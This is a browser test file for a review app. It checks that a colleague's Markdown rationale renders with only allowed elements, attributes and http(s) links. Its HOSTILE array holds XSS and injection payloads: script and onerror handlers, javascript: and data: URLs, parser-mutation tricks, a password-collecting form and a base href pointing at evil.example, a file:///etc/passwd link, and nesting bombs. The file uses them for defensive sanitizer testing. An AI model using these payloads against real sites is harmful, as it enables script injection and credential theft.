import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import type { Locator } from 'playwright-core'
import { idMaker } from '../../shared/ids.ts'
import type { Op } from '../../shared/sync/op.ts'
import { BrowserDesk } from '../helpers/browser-desk.ts'
import { marks, Page } from '../helpers/live-page.ts'
import type { ReviewerTab } from '../helpers/reviewer-tab.ts'
import { passagesOf, SEED_IDS, seedText } from '../helpers/seeds.ts'

const ARTICLE = SEED_IDS[4]
const TEXT = seedText(ARTICLE)
const [QUOTE] = passagesOf(ARTICLE) as [string]
const newId = idMaker({ now: Date.now, randomBytes: () => randomBytes(16) })

/** What somebody might write to run, load, frame, style, mislead, or take the page apart. */
const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked=1">x</a></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<style>* { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<div id="app" name="getElementById" class="card" style="position:fixed;inset:0">over all</div>',
  '<a href="https://evil.example/a" onclick="window.hacked = 1" download ping="https://evil.example">x</a>',
  '<math><mtext></p><img src=x onerror=window.hacked=1></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
  '<template><img src=x onerror=window.hacked=1></template><base href="https://evil.example/">',
  '![pixel](https://evil.example/pixel.png "x")',
  '![x](javascript:window.hacked=1)',
  '![" onerror="window.hacked=1](https://evil.example/"onerror="window.hacked=1)',
  '[a](javascript:window.hacked=1)',
  '[b](java&#10;script:window.hacked=1)',
  '[c](JaVaScRiPt&colon;window.hacked=1)',
  '[d](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)',
  '[e](vbscript:x) [f](file:///etc/passwd) [g](blob:https://evil.example/1)',
  '[h](/api/session) [i](//evil.example/x) [j](#app) [k](mailto:a@evil.example)',
  '<javascript:window.hacked=1> javascript:window.hacked=1',
  '[l]( https://evil.example/\u0001x "a\\"onmouseover=\\"window.hacked=1")',
  '`<img src=x onerror=window.hacked=1>`',
  '```html" onload="window.hacked=1\n<script>window.hacked=1</script>\n```',
  '# Claimdesk\n\n## Your access was taken away',
  '- [x] <input type="checkbox" autofocus onfocus="window.hacked=1">',
  '| a | b |\n|:-:|--:|\n| <b onclick=window.hacked=1>x</b> | [m](javascript:1) |',
  '[n]: javascript:window.hacked=1 "x"\n\n[n] ![n]',
  `${'> '.repeat(200)}deep`,
  `${'['.repeat(500)}a${'](x)'.repeat(500)}`,
  `${'*a **b '.repeat(600)}`,
].map((text) => text.replaceAll('\u0001', ''))

const ELEMENTS = new Set(
  'A,BLOCKQUOTE,BR,CODE,DEL,DIV,EM,HR,LI,OL,P,PRE,STRONG,TABLE,TBODY,TD,TH,THEAD,TR,UL'.split(','),
)
const ATTRIBUTES = new Set(['href', 'rel', 'start', 'target'])

interface Found {
  readonly elements: readonly string[]
  readonly attributes: readonly string[]
  readonly links: readonly {
    readonly href: string
    readonly rel: string
    readonly target: string
  }[]
}

describe("a colleague's Markdown", function () {
  this.timeout(120_000) // the browser's first start; many rationales one after the other
  let desk: BrowserDesk
  let ana: ReviewerTab
  let ben: Page
  let claim: ReturnType<typeof marks>
  let prose: Locator

  before(async () => {
    desk = await BrowserDesk.start({ environment: { RATE_LIMITS: 'off' } })
    ana = await desk.joinAsOwner('Ana Kovač')
    const colleague = await desk.join(await ana.invite(), 'Ben Ruiz')
    const [cookie] = await colleague.page.context().cookies()
    await colleague.page.close()
    assert.ok(cookie)
    ben = new Page(desk.server.origin, `${cookie.name}=${cookie.value}`)
    await ben.connected
    assert.ok((await ben.hello()).ok)
    assert.ok((await ben.open(ARTICLE)).ok)
    const start = TEXT.indexOf(QUOTE)
    claim = marks(TEXT, start, start + QUOTE.length)
    assert.ok((await ben.submit(ARTICLE, [claim])).ok)
    await ana.open(ARTICLE)
    prose = (await ana.openCard(QUOTE)).locator('.verdict .prose')
  })

  after(async () => {
    ben?.leave()
    await desk?.close()
  })

  it('is shown as it was meant', async () => {
    await says('See **both** [reports](https://a.example/r?x=1&y=2):\n\n1. one\n2. *two* ~~three~~')
    assert.equal(
      (await prose.innerHTML()).replaceAll('\n', ''),
      '<p>See <strong>both</strong> <a href="https://a.example/r?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">reports</a>:</p><ol><li>one</li><li><em>two</em> <del>three</del></li></ol>',
    )
  })

  it('keeps the text of what it does not let through', async () => {
    await says('<b>bold</b> ![a map](https://maps.example/m.png) # no')
    assert.equal(await prose.innerText(), '<b>bold</b> a map # no')
    assert.equal(await prose.getByRole('link', { name: 'a map' }).count(), 1)
  })

  it('runs nothing, loads nothing, and links only into the web, whatever it holds', async () => {
    const asked: string[] = []
    ana.page.on('request', (request) => asked.push(request.url()))
    for (const text of HOSTILE) {
      await says(text)
      const { elements, attributes, links } = await prose.evaluate(look)
      const strange = elements.filter((name) => !ELEMENTS.has(name))
      assert.deepEqual(strange, [], text)
      assert.deepEqual(
        attributes.filter((name) => !ATTRIBUTES.has(name)),
        [],
        text,
      )
      for (const { href, rel, target } of links) {
        assert.match(href, /^https?:\/\//, text)
        assert.deepEqual([rel, target], ['noopener noreferrer nofollow', '_blank'], text)
      }
    }
    assert.equal(await ana.page.evaluate(() => 'hacked' in window), false)
    assert.deepEqual(
      asked.filter((url) => !url.startsWith(desk.server.origin)),
      [],
    )
    assert.equal(await ana.page.getByRole('heading', { name: 'Your access' }).count(), 0)
  })

  /** Ben gives this rationale, and Ana's page shows it. */
  async function says(rationale: string): Promise<void> {
    const judged = { position: claim.id, statement: claim.id, scope: claim.id }
    const mark = `end ${newId<'op'>()}`
    const op: Op = {
      type: 'verdict.cast',
      id: newId(),
      claim: claim.claim,
      verdict: 'disputed',
      reasons: [],
      rationale: `${rationale}\n\n${mark}`,
      judged,
    }
    const answer = await ben.submit(ARTICLE, [op])
    assert.ok(answer.ok && answer.outcomes.every((outcome) => 'seq' in outcome), rationale)
    // Rendered, and not as it was written while the code is loaded.
    const rendered = ana.page.locator('.prose:not(.is-written)', { hasText: mark })
    await rendered.waitFor()
    await rendered.evaluate((element, mark) => {
      for (const part of [...element.children]) if (part.textContent === mark) part.remove()
    }, mark)
  }
})

function look(prose: Element): Found {
  const all = [...prose.querySelectorAll('*')]
  return {
    elements: all.map(({ tagName }) => tagName),
    attributes: all.flatMap((element) => element.getAttributeNames()),
    links: all.flatMap((element) =>
      element instanceof HTMLAnchorElement && element.hasAttribute('href')
        ? [{ href: element.getAttribute('href') ?? '', rel: element.rel, target: element.target }]
        : [],
    ),
  }
}
